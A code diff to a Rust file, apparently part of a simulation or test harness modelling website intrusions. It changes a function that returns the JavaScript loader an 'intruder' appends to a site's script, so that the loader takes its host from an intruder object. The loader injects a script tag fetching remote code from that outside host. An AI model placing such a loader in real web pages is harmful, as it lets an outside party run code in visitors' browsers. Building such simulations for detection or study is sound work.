@@ -1,6 +1,7 @@
 //! The style sheet and the script of an outlet, and what an intruder appends to them.
 
-use crate::attack::{COVER_PATH, STRANGER};
+use crate::attack::COVER_PATH;
+use crate::intruder::Intruder;
 use crate::roster::Identity;
 
 /// The style sheet.
@@ -39,8 +40,9 @@ pub(crate) fn painted() -> String {
 }
 
 /// What an intruder appends to the script: a loader.
-pub(crate) fn planted() -> String {
+pub(crate) fn planted(intruder: &Intruder) -> String {
+    let host = &intruder.host;
     format!(
-        "(function(){{var s=document.createElement('script');s.src='https://{STRANGER}/j/42.js';document.head.appendChild(s);}})();\n"
+        "(function(){{var s=document.createElement('script');s.src='https://{host}/j/42.js';document.head.appendChild(s);}})();\n"
     )
 }
